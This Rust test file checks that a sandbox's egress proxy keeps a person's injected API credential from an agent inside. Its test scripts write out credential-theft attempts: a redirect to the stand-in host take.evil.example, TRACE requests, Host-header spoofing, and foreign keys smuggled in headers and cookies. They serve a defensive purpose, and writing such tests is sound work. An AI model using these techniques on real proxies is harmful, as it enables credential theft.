//! The person's credential, looked for in the bottle and lured out of it.

use std::time::{SystemTime, UNIX_EPOCH};

use super::world::{FREE, MODEL, PAID, World, part};
use crate::search::Search;

#[test]
fn the_credential_is_nowhere_in_the_bottle() {
    let Some(world) = World::open() else { return };
    // A bottle's processes become children of this test.
    rustix::process::set_child_subreaper(Some(rustix::process::getpid())).unwrap();
    let since = SystemTime::now().duration_since(UNIX_EPOCH).unwrap().as_secs();
    // What is in the bottle, and must be found wherever the credential must not.
    let control = testkit::canary("control");
    let mut live = world.scene.live(&format!(
        "cd; curl -sS -D headers -o answer -H 'Authorization: Bearer sk-of-nobody' https://{PAID}/x && curl -sS http://policy.bottle.internal/ > policy
         curl -sS http://policy.bottle.internal/policy.json > policy.json; export CONTROL={control}; printf %s $CONTROL | base64 -w 0 > held
         echo ready; cat"
    ));
    world.origin.wait("the paid request", |requests| requests.len() == 1);
    assert_eq!(world.origin.requests()[0].header("authorization"), Some(&*format!("Bearer {}", world.canary)));
    let texts = [control.as_str(), &world.canary];
    let outside = Search::outside(live.id(), "s", &texts);
    if rustix::process::geteuid().is_root() {
        assert_eq!(outside.closed, Vec::<String>::new());
    }
    let [node, root] = ["node", "root"].map(|user| Search::inside(&world.scene, "s", user, &["/"], since, &texts));
    outside.assert_found(0, "memory", "plain");
    node.assert_found(0, "environ", "plain");
    node.assert_found(0, "file", "base64");
    assert_eq!(root.still_closed(&node), Vec::<&str>::new());
    for search in [outside, node, root] {
        assert_eq!(search.places(1), Vec::<String>::new(), "the credential is in the bottle");
    }
    let logs = world.scene.run(&["logs", "s"]);
    assert_eq!(logs.code, 0, "{logs:?}");
    assert!(!world.written(&logs).contains(&world.canary));
    live.close_stdin();
    let (status, stderr) = live.end();
    assert!(status == Some(0) && !stderr.contains(&world.canary), "{stderr}");
}

#[test]
fn the_credential_is_not_lured_out() {
    let Some(world) = World::open() else { return };
    let script = format!(
        "try() {{ echo \"== $1\"; shift; curl -s -m 60 -o /dev/null -w '%{{http_code}}\\n' \"$@\"; }}
         try trace -X TRACE https://{PAID}/x
         try track -X TRACK https://{PAID}/x
         try 'to a host that is not allowed' -L 'https://{PAID}/redirect?https://take.evil.example/'
         try 'to another host' -L --location-trusted -H 'Authorization: Bearer mine' 'https://{PAID}/redirect?https://{FREE}/taken'
         try 'another port' https://{PAID}:8443/x
         try 'in the name of another' -H 'Host: {FREE}' https://{PAID}/x
         try 'by the other name' -H 'Host: {PAID}' https://{FREE}/x
         echo '== end'"
    );
    let ran = world.scene.script(&script);
    let expected = [
        ("trace", "403", "egress.request TRACE paid.example.org proxy"),
        ("track", "403", "egress.request TRACK paid.example.org proxy"),
        ("to a host that is not allowed", "000", "egress.host CONNECT take.evil.example:443 proxy"),
        ("to another host", "200", ""),
        ("another port", "000", "egress.port CONNECT paid.example.org:8443 proxy"),
        ("in the name of another", "421", "egress.authority GET free.example.org proxy"),
        ("by the other name", "421", "egress.authority GET paid.example.org proxy"),
    ];
    let refusals = world.refusals();
    for (name, status, recorded) in expected {
        assert_eq!(part(&ran.stdout, name), status, "{name}: {ran:?}");
        let count = refusals.iter().filter(|refusal| *refusal == recorded).count();
        assert_eq!(count, usize::from(!recorded.is_empty()), "{name}: {refusals:#?}");
    }
    // What went to the host that nobody pays at carried what the agent had, and nothing of the person's.
    let requests = world.origin.requests();
    let taken: Vec<_> = requests.iter().filter(|request| request.line() == "GET /taken").collect();
    assert_eq!(taken.len(), 1, "{requests:#?}");
    assert_eq!(taken[0].header("authorization"), Some("Bearer mine"));
    assert!(requests.iter().all(|request| request.header("host") != Some(FREE) || !request.everything().contains(&world.canary)));
    assert!(!world.written(&ran).contains(&world.canary));
}

/// The model's host is allowed, and only for the person's own account.
#[test]
fn a_foreign_credential_does_not_reach_the_model() {
    let Some(world) = World::open().map(World::with_a_model) else { return };
    let script = format!(
        "try() {{ echo \"== $1\"; shift; curl -s -m 60 -o /dev/null -w '%{{http_code}}\\n' -d '{{}}' \"$@\" https://{MODEL}/v1/messages; }}
         try theirs -H 'x-api-key: sk-ant-of-somebody-else'
         try 'as a bearer' -H 'Authorization: Bearer sk-ant-of-somebody-else'
         try 'beside ours' -H \"x-api-key: $ANTHROPIC_API_KEY\" -H 'Authorization: Bearer sk-ant-of-somebody-else'
         try 'in one header' -H \"Authorization: Bearer sk-ant-of-somebody-else $ANTHROPIC_API_KEY\"
         try 'as a cookie' -b session=of-somebody-else
         try 'in another header' -H 'X-Auth-Token: sk-ant-of-somebody-else'
         try 'in disguise' -H 'x_auth_token: sk-ant-of-somebody-else'
         try placeholder -H \"x-api-key: $ANTHROPIC_API_KEY\"
         echo '== held'; echo $ANTHROPIC_API_KEY"
    );
    let ran = world.scene.script(&script);
    for name in ["theirs", "as a bearer", "beside ours", "in one header", "as a cookie", "in another header", "in disguise"] {
        assert_eq!(part(&ran.stdout, name), "403", "{name}: {ran:?}");
    }
    assert_eq!(world.refusals(), vec![format!("egress.foreign_credential POST {MODEL} proxy"); 7]);
    assert_eq!(part(&ran.stdout, "placeholder"), "200", "{ran:?}");
    assert!(!part(&ran.stdout, "held").is_empty() && part(&ran.stdout, "held") != world.canary);
    let requests = world.origin.requests();
    let [paid] = &requests[..] else { panic!("{requests:#?}") };
    assert_eq!(paid.header("x-api-key"), Some(&*world.canary));
    assert!(!world.written(&ran).contains(&world.canary));
}
